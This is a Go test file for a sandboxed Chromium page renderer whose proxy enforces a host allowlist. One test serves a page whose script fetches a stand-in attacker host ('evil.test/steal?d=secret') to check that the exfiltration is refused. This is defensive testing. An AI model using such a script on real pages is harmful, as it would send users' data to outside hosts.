package render

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/istota/istota/sidecar/internal/netproxy"
	"github.com/istota/istota/sidecar/internal/sandbox/sandboxtest"
	"github.com/istota/istota/sidecar/internal/sandbox/testrunner"
)

func TestMain(m *testing.M) {
	code := m.Run()
	sandboxtest.Cleanup()
	os.Exit(code)
}

func testLogger(t testing.TB) *slog.Logger {
	return slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelDebug}))
}

// fakeResolver maps the tests' host names to loopback; other names do not exist.
type fakeResolver map[string][]netip.Addr

func (r fakeResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := r[host]; ok {
		return a, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

var loopback = []netip.Addr{netip.MustParseAddr("127.0.0.1")}

// origin is a loopback web server that counts the requests it gets.
type origin struct {
	*httptest.Server
	port string
	mu   sync.Mutex
	got  []string
}

func newOrigin(t *testing.T, pages map[string]string) *origin {
	t.Helper()
	o := &origin{}
	o.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.mu.Lock()
		o.got = append(o.got, r.URL.RequestURI())
		o.mu.Unlock()
		body, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, body)
	}))
	t.Cleanup(o.Close)
	_, o.port, _ = net.SplitHostPort(o.Listener.Addr().String())
	return o
}

func (o *origin) requests() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]string(nil), o.got...)
}

// newRenderer builds a Renderer on a real sandbox runner (the test binary stands in for
// the istota binary, the init is the real istota-init) with this network policy.
func newRenderer(t *testing.T, allow []string, resolver fakeResolver, timeout time.Duration) (*Renderer, uint32) {
	t.Helper()
	if _, err := os.Stat(DefaultChromium); err != nil {
		t.Fatalf("this test needs Debian's chromium (scripts/deps.sh): %v", err)
	}
	runner, uid := testrunner.Runner(t)
	rules, err := netproxy.ParseRules(allow)
	if err != nil {
		t.Fatal(err)
	}
	r, err := New(Options{
		Runner:  runner,
		Proxy:   netproxy.Options{Allow: rules, AllowPrivate: allow, Resolver: resolver, Logger: testLogger(t)},
		Timeout: timeout,
		Logger:  testLogger(t),
	})
	if err != nil {
		t.Fatal(err)
	}
	return r, uid
}

func hostPort(h, p string) string { return net.JoinHostPort(h, p) }

// TestRenderRunsScripts: text a script writes is in the rendered document (a plain
// fetch sees none of it), and every connection went through the proxy.
func TestRenderRunsScripts(t *testing.T) {
	site := newOrigin(t, map[string]string{
		"/app": `<!DOCTYPE html><html><head><title>App</title><script src="/app.js"></script></head>
<body><div id="root">Loading…</div>
<script>setTimeout(function () { document.getElementById("root").innerHTML = "<h1>River trips</h1><p>Written by " + "script " + (40 + 2) + ".</p>"; }, 500);</script>
</body></html>`,
		"/app.js": `document.title = "Rendered app";`,
	})
	host := hostPort("site.test", site.port)
	r, _ := newRenderer(t, []string{host}, fakeResolver{"site.test": loopback}, 45*time.Second)
	page, err := r.Render(context.Background(), Job{UserID: "alice", TaskID: 7, URL: "http://" + host + "/app", PageHosts: []string{"site.test"}})
	if err != nil {
		t.Fatal(err)
	}
	dom := string(page.DOM)
	for _, want := range []string{"<h1>River trips</h1>", "Written by script 42.", "<title>Rendered app</title>"} {
		if !strings.Contains(dom, want) {
			t.Errorf("the document lacks %q:\n%s", want, dom)
		}
	}
	if strings.Contains(dom, "Loading…") {
		t.Errorf("the document still has the placeholder:\n%s", dom)
	}
	got := site.requests()
	if len(got) < 2 || got[0] != "/app" {
		t.Errorf("the site saw %q", got)
	}
	var urls []string
	for _, d := range page.Requests {
		if d.Outcome != netproxy.OutcomeAllowed || d.Target != host || d.Who.UserID != "alice" || d.Who.TaskID != 7 {
			t.Errorf("decision %+v", d)
		}
		urls = append(urls, d.URL)
	}
	if len(urls) < 2 || urls[0] != "http://"+host+"/app" || urls[1] != "http://"+host+"/app.js" {
		t.Errorf("the proxy saw %q", urls)
	}
}

// TestRenderRefusesOtherHosts: a page's script and image that reach for a host outside
// the allowlist, or for an allowed host on a private address without an allow_private
// entry, never get there; both refusals are reported.
func TestRenderRefusesOtherHosts(t *testing.T) {
	evil := newOrigin(t, map[string]string{"/steal": "stolen"})
	site := newOrigin(t, map[string]string{
		"/page": `<html><body><p id="s">static text</p><img src="http://evil.test:` + evil.port + `/pix.png">
<script>fetch("http://evil.test:` + evil.port + `/steal?d=secret").then(function(){document.getElementById("s").textContent="leaked";}, function(){document.getElementById("s").textContent="fetch refused";});
fetch("http://127.0.0.1:` + evil.port + `/steal?d=direct").catch(function(){});</script></body></html>`,
	})
	host := hostPort("site.test", site.port)
	r, _ := newRenderer(t, []string{host}, fakeResolver{"site.test": loopback, "evil.test": loopback}, 45*time.Second)
	page, err := r.Render(context.Background(), Job{UserID: "alice", TaskID: 8, URL: "http://" + host + "/page", PageHosts: []string{"site.test"}})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(page.DOM), "fetch refused") {
		t.Errorf("the script's fetch was not refused:\n%s", page.DOM)
	}
	if got := evil.requests(); len(got) != 0 {
		t.Errorf("the host outside the allowlist was reached: %q", got)
	}
	refused := map[string]string{}
	for _, d := range page.Requests {
		if d.Outcome == netproxy.OutcomeRefused {
			refused[d.Target] = d.Reason
		}
	}
	if refused[hostPort("evil.test", evil.port)] != "host_not_allowed" || refused[hostPort("127.0.0.1", evil.port)] != "host_not_allowed" {
		t.Errorf("refusals %v in %+v", refused, page.Requests)
	}
}

// TestRenderTimeout: a page whose script never ends is killed at the timeout with every
// process of its sandbox.
func TestRenderTimeout(t *testing.T) {
	site := newOrigin(t, map[string]string{"/spin": `<html><body><p>spinning</p><script>for (;;) {}</script></body></html>`})
	host := hostPort("site.test", site.port)
	r, uid := newRenderer(t, []string{host}, fakeResolver{"site.test": loopback}, 8*time.Second)
	_, err := r.Render(context.Background(), Job{UserID: "alice", TaskID: 9, URL: "http://" + host + "/spin", PageHosts: []string{"site.test"}})
	if !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want a timeout", err)
	}
	if os.Geteuid() != 0 {
		return // the sandbox ran as our own uid, shared with this test: nothing to count
	}
	deadline := time.Now().Add(20 * time.Second)
	for {
		left := testrunner.ProcessesOf(uid)
		if len(left) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("processes of the sandbox survived the timeout: %q", left)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestCheck: the doctor's check renders its own page.
func TestCheck(t *testing.T) {
	r, _ := newRenderer(t, nil, nil, 45*time.Second)
	if err := r.Check(context.Background()); err != nil {
		t.Fatal(err)
	}
}

func TestNewRefuses(t *testing.T) {
	if _, err := New(Options{}); err == nil || !strings.Contains(err.Error(), "runner") {
		t.Errorf("no runner: %v", err)
	}
}

// TestRenderTurns: no more Chromiums run at once than MaxConcurrent; a render that finds
// no turn within its time says so.
func TestRenderTurns(t *testing.T) {
	site := newOrigin(t, map[string]string{"/spin": `<html><body><script>for (;;) {}</script></body></html>`, "/ok": `<p>fine</p>`})
	host := hostPort("site.test", site.port)
	r, _ := newRenderer(t, []string{host}, fakeResolver{"site.test": loopback}, 8*time.Second)
	r.turns = make(chan struct{}, 1)
	spun := make(chan error, 1)
	go func() {
		_, err := r.Render(context.Background(), Job{UserID: "alice", URL: "http://" + host + "/spin", PageHosts: []string{"site.test"}})
		spun <- err
	}()
	for len(r.turns) == 0 {
		time.Sleep(10 * time.Millisecond)
	}
	// The first holds its turn until it is killed, 8 s after it began.
	short, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	_, err := r.Render(short, Job{UserID: "alice", URL: "http://" + host + "/ok", PageHosts: []string{"site.test"}})
	if !errors.Is(err, ErrTimeout) || !strings.Contains(err.Error(), "other pages were being rendered") {
		t.Errorf("second render: %v", err)
	}
	if err := <-spun; !errors.Is(err, ErrTimeout) {
		t.Errorf("first render: %v", err)
	}
	if got := site.requests(); strings.Contains(strings.Join(got, " "), "/ok") {
		t.Errorf("the second page was loaded while the first ran: %q", got)
	}
}

// TestRenderStopsLoading: a request that never finishes does not cost the page: loading
// is stopped before the timeout and the document, scripts run, is printed.
func TestRenderStopsLoading(t *testing.T) {
	release := make(chan struct{})
	hang := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(hang.Close)
	t.Cleanup(func() { close(release) }) // runs first, so hang.Close does not wait
	_, hport, _ := net.SplitHostPort(hang.Listener.Addr().String())
	site := newOrigin(t, map[string]string{"/slow": `<html><body><p>static text</p><img src="http://site.test:` + hport + `/never.png">
<script>document.body.insertAdjacentHTML("beforeend", "<p>script ran</p>")</script></body></html>`})
	host := hostPort("site.test", site.port)
	r, _ := newRenderer(t, []string{host, hostPort("site.test", hport)}, fakeResolver{"site.test": loopback}, 15*time.Second)
	start := time.Now()
	page, err := r.Render(context.Background(), Job{UserID: "alice", URL: "http://" + host + "/slow", PageHosts: []string{"site.test"}})
	if err != nil {
		t.Fatalf("%v after %s", err, time.Since(start))
	}
	if !strings.Contains(string(page.DOM), "script ran") || !strings.Contains(string(page.DOM), "static text") {
		t.Errorf("document:\n%s", page.DOM)
	}
}
